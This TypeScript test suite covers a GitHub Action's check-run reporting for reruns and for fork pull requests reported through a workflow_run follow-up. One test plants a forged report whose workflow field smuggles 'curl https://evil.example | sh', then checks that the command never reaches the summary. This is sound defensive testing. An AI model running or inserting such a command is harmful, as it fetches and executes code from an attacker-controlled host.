/**
 * The check run across runs, through the Action run in-process against the loopback GitHub service and a
 * real Chromium: a rerun's check run shows the merged verdict with the recovered fixture; and the fork-PR pattern,
 * where the pull_request run cannot create a check run (read-only token) and a workflow_run job with
 * `report-only` reports it on the pull request's head from the uploaded artifact, running nothing.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it, type TestContext } from 'node:test';
import { Outputs } from '../../src/action/names.ts';
import { buildReport } from '../../src/report/build.ts';
import { addRun, complete, shaOf } from '../support/action-rerun.ts';
import { recordingBrowser, writeFixtures } from '../support/action-step.ts';
import type { CheckRun, GitHubService, LogEntry } from '../support/github-service/index.ts';
import { type ActionStep, logOf, runActionInProcess, startInProcessGitHub } from '../support/in-process-action.ts';
import { fixtureSite, hitsOf, hitsSince, setPages, type Site } from '../support/site.ts';
import { tempDir } from '../support/temp.ts';
import { attempt, baseInput, context, loaded, run as fixtureRun, suite } from '../support/report-helpers.ts';

const BOUND = { timeout: 150_000 } as const;
const IDS = ['cart', 'home', 'search'] as const;

let service: GitHubService;
before(async () => {
  service = await startInProcessGitHub();
});
after(() => service.stop());

const checkRunsOn = (sha: string): CheckRun[] => service.checkRuns.filter((checkRun) => checkRun.headSha === sha);

/** `- id: cart` is on line 2; each fixture takes 7 lines. A failing page answers 500, so the generous timeout costs nothing. */
const LINES = { cart: 2, home: 9, search: 16 } as const;
const SUITE = `fixtures:\n${IDS.map(
  (id) => `  - id: ${id}
    title: The ${id} page works
    url: /${id}
    timeout: 30s
    expect:
      status: 200
      visible: ["#${id}"]`,
).join('\n')}\n`;

interface StepOptions {
  runId: number;
  sha: string;
  site: Site | null;
  jobId?: string;
  eventName?: string;
  event?: Record<string, unknown>;
  inputs?: Record<string, string>;
}

function step(options: StepOptions): Promise<ActionStep> {
  return runActionInProcess(service, {
    env: {
      runId: options.runId,
      jobId: options.jobId ?? 'smoke',
      sha: options.sha,
      ...(options.eventName ? { eventName: options.eventName } : {}),
      ...(options.event ? { event: options.event } : {}),
    },
    inputs: { ...(options.site ? { 'base-url': options.site.url } : {}), retries: '0', ...options.inputs },
    workspace: (dir) => writeFixtures(dir, { 'pages.smoke.yml': SUITE }),
  });
}

const shape = (checkRun: CheckRun | undefined) =>
  checkRun?.annotations.map((annotation) => [annotation.path, annotation.start_line, annotation.annotation_level]);

describe('a rerun', () => {
  it('completes its own check run with the merged verdict: the recovered fixture, the rest carried over', BOUND, async (t) => {
    const sha = shaOf('rerun-picture');
    const branch = 'check/rerun-picture';
    const [first, second] = [7101, 7102];
    const site = await fixtureSite(t, { cart: 'fail', home: 'pass', search: 'pass' });
    addRun(service, { id: first, branch, sha, status: 'in_progress', minute: 0 });
    const run1 = await step({ runId: first, sha, site });
    assert.ok(run1.failure, logOf(run1));
    complete(service, first, 'failure');
    const [check1] = checkRunsOn(sha);
    assert.equal(check1?.conclusion, 'failure');
    assert.deepEqual(shape(check1), [['fixtures/pages.smoke.yml', LINES.cart, 'failure']]);

    setPages(site, { cart: 'pass' });
    addRun(service, { id: second, branch, sha, status: 'in_progress', minute: 10 });
    const hits = hitsOf(site, IDS);
    const run2 = await step({ runId: second, sha, site, inputs: { 'rerun-failed': 'true' } });
    assert.equal(run2.failure, null, logOf(run2));
    assert.equal(run2.outputs[Outputs.RerunSourceRunId], String(first));
    assert.deepEqual(hitsSince(site, hits), { cart: 1, home: 0, search: 0 }, 'only the failed fixture ran again');

    const checks = checkRunsOn(sha);
    assert.equal(checks.length, 2, 'each run reports its own check run on the commit');
    const check2 = checks[1];
    assert.ok(check2);
    assert.equal(run2.outputs[Outputs.CheckRunId], String(check2.id));
    assert.equal(check2.requests[0]?.body.status, 'in_progress');
    assert.equal(check2.conclusion, 'success', 'the merged verdict');
    assert.equal(check2.output.title, '3 passed, 1 recovered');
    assert.deepEqual(check2.annotations, []);
    const summary = check2.output.summary ?? '';
    assert.equal(summary, run2.summary, 'the same text as the job summary');
    assert.match(summary, /^## ✅ reliability-smoke: pass$/m);
    assert.match(summary, new RegExp(`### 🔁 Rerun of \\[run ${first}`));
    assert.match(summary, /- 🔁 Recovered \(1\): `cart`/);
    assert.match(summary, /- ↩️ Carried over \(2\): `home` \(passed\), `search` \(passed\)/);
    assert.match(summary, /^\| `cart`.*✅ passed \(recovered\)/m);
    assert.equal(check1?.conclusion, 'failure', 'the first run keeps its own result');
  });
});

/** The run whose smoke artifact a report-only step reports, and the commit its pull request is at. */
interface SourceRun {
  sourceId: number;
  prHead: string;
}

interface ForkRun extends SourceRun {
  source: ActionStep;
}

/**
 * A pull_request run from a fork: GITHUB_SHA is the merge commit, the REST run's head_sha is the PR head, and
 * the token is read-only, so the service refuses check runs (403) while the step runs.
 */
async function forkPullRequestRun(site: Site, label: string, sourceId: number): Promise<ForkRun> {
  const prHead = shaOf(`${label}-head`);
  const branch = `contrib/${label}`;
  addRun(service, { id: sourceId, event: 'pull_request', branch, sha: prHead, status: 'in_progress', minute: 15, pullRequests: [{ number: sourceId % 1000, headRef: branch, headSha: prHead }] });
  const fault = service.faults.add({ endpoint: 'POST /repos/{owner}/{repo}/check-runs', status: 403 });
  try {
    const source = await step({
      runId: sourceId,
      sha: shaOf(`${label}-merge`),
      site,
      eventName: 'pull_request',
      event: { pull_request: { number: sourceId % 1000, head: { sha: prHead, ref: branch, repo: { full_name: `contributor/${label}` } } } },
    });
    assert.equal(fault.fired, 1, 'the fork run could not create its check run');
    assert.deepEqual(checkRunsOn(prHead), []);
    assert.ok(service.artifacts.some((artifact) => artifact.runId === sourceId && artifact.finalized), 'the fork run uploaded its smoke artifact');
    return { sourceId, prHead, source };
  } finally {
    service.faults.remove(fault);
  }
}

/** The workflow_run follow-up of .github/workflows/smoke-report.yml: base repository context, job `report`. */
function reportOnlyStep(fork: SourceRun, followUpId: number, inputs: Record<string, string>): Promise<ActionStep> {
  const mainSha = shaOf(`main-${followUpId}`);
  addRun(service, { id: followUpId, event: 'workflow_run', branch: 'main', sha: mainSha, status: 'in_progress', minute: 19 });
  return step({
    runId: followUpId,
    sha: mainSha,
    site: null,
    jobId: 'report',
    eventName: 'workflow_run',
    event: {
      action: 'completed',
      workflow_run: { id: fork.sourceId, event: 'pull_request', head_sha: fork.prHead, head_branch: `contrib/${fork.sourceId}` },
    },
    inputs: { 'report-only': 'true', 'artifact-run-id': String(fork.sourceId), ...inputs },
  });
}

const browserMarker = (t: TestContext) => recordingBrowser(tempDir(t, 'check-report-'));

const checkRunRequests = (entries: LogEntry[]) => entries.filter((entry) => entry.path.includes('/check-runs'));

describe('report-only, the workflow_run follow-up for fork pull requests', () => {
  it('reports the fork run as a check run on its head commit, running no fixture and uploading nothing', BOUND, async (t) => {
    const site = await fixtureSite(t, { cart: 'fail', home: 'pass', search: 'pass' });
    const fork = await forkPullRequestRun(site, 'fork-fails', 7201);
    assert.ok(fork.source.failure, logOf(fork.source));
    complete(service, fork.sourceId, 'failure');

    const hits = site.hits();
    const browser = browserMarker(t);
    const followUpId = 7202;
    const run = await reportOnlyStep(fork, followUpId, { 'browser-path': browser.path });
    assert.match(run.failure ?? '', /1 fixture failed/, `fails with the reported verdict${logOf(run)}`);
    assert.equal(site.hits(), hits, 'the site saw no new request');
    assert.equal(browser.launches(), 0, 'no browser started');
    assert.deepEqual(service.artifacts.filter((artifact) => artifact.runId === followUpId), [], 'no artifact uploaded');

    const [checkRun, ...others] = checkRunsOn(fork.prHead);
    assert.ok(checkRun, `a check run on the pull request head ${fork.prHead}${logOf(run)}`);
    assert.equal(others.length, 0);
    assert.deepEqual(checkRunsOn(run.env.GITHUB_SHA ?? ''), [], 'nothing on the commit the follow-up job ran on');
    assert.equal(checkRun.name, 'reliability-smoke');
    assert.equal(checkRun.conclusion, 'failure', "the source run's verdict");
    assert.equal(checkRun.output.title, '1 failed, 2 passed');
    assert.deepEqual(shape(checkRun), [['fixtures/pages.smoke.yml', LINES.cart, 'failure']]);
    assert.match(checkRun.annotations[0]?.title ?? '', /cart failed/);
    assert.equal(checkRun.output.summary, run.summary, 'the job summary of the follow-up, shown on the pull request');
    assert.match(run.summary, /^## ❌ reliability-smoke: fail$/m);
    assert.match(run.summary, new RegExp(`^> ℹ️ Reported from report\\.json of the smoke artifact &quot;reliability-smoke-smoke-attempt-1&quot; of run ${fork.sourceId}`, 'm'));
    assert.doesNotMatch(run.summary, /Does not match/, 'the report is from the run, the commit and the repository it says');
    assert.doesNotMatch(run.summary, /gh workflow run/, 'no dispatch command: this workflow is not the one that ran the fixtures');
    assert.equal(run.outputs[Outputs.CheckRunId], String(checkRun.id));
    assert.equal(run.outputs[Outputs.Result], 'fail');
    assert.equal(run.outputs[Outputs.FailedFixtures], '["cart"]');
    assert.equal(run.outputs[Outputs.ArtifactId], '', 'nothing uploaded');
    assert.ok(
      run.annotations.some((annotation) => annotation.level === 'error' && annotation.file === 'fixtures/pages.smoke.yml' && annotation.startLine === LINES.cart),
      'the failure annotated in the follow-up too',
    );
  });

  it('a passing fork run is reported as success and the follow-up exits 0', BOUND, async (t) => {
    const site = await fixtureSite(t, { cart: 'pass', home: 'pass', search: 'pass' });
    const fork = await forkPullRequestRun(site, 'fork-passes', 7301);
    assert.equal(fork.source.failure, null, logOf(fork.source));
    complete(service, fork.sourceId, 'success');

    const hits = site.hits();
    const run = await reportOnlyStep(fork, 7302, {});
    assert.equal(run.failure, null, logOf(run));
    assert.equal(site.hits(), hits);
    const [checkRun] = checkRunsOn(fork.prHead);
    assert.ok(checkRun, logOf(run));
    assert.equal(checkRun.conclusion, 'success');
    assert.equal(checkRun.output.title, '3 passed');
    assert.equal(run.outputs[Outputs.Result], 'pass');
  });

  it('a source with 120 failures is reported in batches of 50, 50 and 20, and only the last request completes it', BOUND, async () => {
    const sourceId = 7501;
    const prHead = shaOf('many-fork-failures');
    addRun(service, { id: sourceId, event: 'pull_request', branch: 'contrib/many', sha: prHead, minute: 15 });
    const failures = Array.from({ length: 120 }, (_, index) =>
      fixtureRun(loaded(`page-${index}`, { file: 'fixtures/many.smoke.yml', line: 2 + 6 * index }), [
        attempt(`page-${index}`, 1, { kind: 'assertion', message: `expected status 201, got 200` }),
      ]),
    );
    const report = buildReport(baseInput(suite(failures)));
    await service.addArtifact(sourceId, { name: 'reliability-smoke-smoke-attempt-1', files: { 'report.json': JSON.stringify(report) } });

    const run = await reportOnlyStep({ sourceId, prHead }, 7502, {});
    assert.ok(run.failure, logOf(run));
    const [checkRun] = checkRunsOn(prHead);
    assert.ok(checkRun, logOf(run));
    assert.deepEqual(
      checkRun.requests.map((request) => [
        request.method,
        request.body.status ?? null,
        request.body.conclusion ?? null,
        (request.body.output as { annotations?: unknown[] } | undefined)?.annotations?.length ?? 0,
      ]),
      [
        ['POST', 'in_progress', null, 50],
        ['PATCH', null, null, 50],
        ['PATCH', 'completed', 'failure', 20],
      ],
      'a reader never sees it completed with part of its annotations',
    );
    assert.equal(checkRun.annotations.length, 120);
    assert.equal(checkRun.output.title, '120 failed, 0 passed');
  });

  it('a source report whose baseUrl is not a URL is still reported; commands never take a base URL from a report', BOUND, async () => {
    const sourceId = 7601;
    const prHead = shaOf('odd-base-url');
    addRun(service, { id: sourceId, event: 'pull_request', branch: 'contrib/odd', sha: prHead, minute: 15 });
    const cart = fixtureRun(loaded('cart', { file: 'fixtures/pages.smoke.yml', line: 2 }), [attempt('cart', 1, { kind: 'assertion', message: 'no #cart' })]);
    const report = buildReport(baseInput(suite([cart]), { baseUrl: 'staging (see the wiki)' }));
    await service.addArtifact(sourceId, { name: 'reliability-smoke-smoke-attempt-1', files: { 'report.json': JSON.stringify(report) } });

    const run = await reportOnlyStep({ sourceId, prHead }, 7602, {});
    assert.ok(run.failure, logOf(run));
    assert.doesNotMatch(run.failure ?? '', /unexpected error/, logOf(run));
    assert.equal(run.outputs[Outputs.FailedFixtures], '["cart"]');
    assert.equal(checkRunsOn(prHead)[0]?.conclusion, 'failure', logOf(run));
    assert.match(run.summary, /--fixture cart/);
    assert.doesNotMatch(run.summary, /--base-url/);
  });

  it("a forged report is shown as the fork's word: what does not match its run is said first, and no link or command comes from it", BOUND, async () => {
    const sourceId = 7701;
    const prHead = shaOf('forged-head');
    addRun(service, { id: sourceId, event: 'pull_request', branch: 'contrib/forged', sha: prHead, minute: 15 });
    const cart = fixtureRun(loaded('cart', { file: 'fixtures/pages.smoke.yml', line: 2 }), [attempt('cart', 1, { kind: 'assertion', message: 'no #cart' })]);
    const forgedRun = context(shaOf('another-commit'), {
      runId: '999',
      repository: 'attacker/elsewhere',
      serverUrl: 'https://evil.example',
      workflow: 'Smoke; curl https://evil.example | sh',
    });
    const report = buildReport(baseInput(suite([cart]), { run: forgedRun, baseUrl: 'https://evil.example/' }));
    await service.addArtifact(sourceId, { name: 'reliability-smoke-smoke-attempt-1', files: { 'report.json': JSON.stringify(report) } });

    const run = await reportOnlyStep({ sourceId, prHead }, 7702, {});
    assert.ok(run.failure, logOf(run));
    const summary = run.summary;
    const top = summary.slice(0, summary.indexOf('**1 fixture**'));
    assert.match(top, /^> ℹ️ Reported from report\.json of the smoke artifact/m);
    assert.match(top, new RegExp(`Does not match:\\*\\* report\\.json says it is from run &quot;999&quot;, but it was in the artifact of run ${sourceId}\\.`));
    assert.match(top, new RegExp(`Does not match:\\*\\* report\\.json says it tested commit &quot;${shaOf('another-commit')}&quot;, but run ${sourceId} ran on commit ${prHead}\\.`));
    assert.match(top, /Does not match:\*\* report\.json says it is from the repository &quot;attacker\/elsewhere&quot;/);
    const links = [...summary.matchAll(/\]\((https?:[^)]+)\)/g)].map((match) => match[1]);
    assert.deepEqual(links.filter((link) => !link?.startsWith(`https://github.com/${service.repository}/actions/runs/${sourceId}`)), [], 'links only to the run it came from');
    assert.doesNotMatch(summary, /evil\.example\/?\s|curl/, 'no command from the report');
    assert.match(summary, /^npx reliability-smoke --fixture cart$/m, 'commands from the ids alone');
    assert.equal(checkRunsOn(prHead)[0]?.output.summary, summary, 'the check run says the same');
    assert.match(logOf(run), /Warning: report\.json says it is from run "999", but it was in the artifact of run 7701\./, 'and the log');
    assert.doesNotMatch(summary, /--base-url/, "the report's base URL is not put into a command");
  });

  it('report-only without artifact-run-id is a usage error that runs nothing and reports a failed check run', BOUND, async (t) => {
    const site = await fixtureSite(t, { cart: 'pass', home: 'pass', search: 'pass' });
    const browser = browserMarker(t);
    const from = service.log.length;
    const run = await step({ runId: 7401, sha: shaOf('usage'), site, jobId: 'report', inputs: { 'report-only': 'true', 'browser-path': browser.path } });
    assert.ok(run.failure, logOf(run));
    const problem = run.annotations.find((annotation) => annotation.level === 'error' && annotation.message.includes('report-only needs artifact-run-id'));
    assert.ok(problem, `an error annotation names the missing input${logOf(run)}`);
    assert.equal(site.hits(), 0, 'no fixture ran');
    assert.equal(browser.launches(), 0, 'no browser started');
    assert.equal(checkRunRequests(service.log.slice(from)).length, 1, 'one check run, created completed');
    assert.equal(service.checkRuns.at(-1)?.requests[0]?.body.conclusion, 'failure');
    assert.equal(run.outputs[Outputs.Result], 'fail');
  });
});
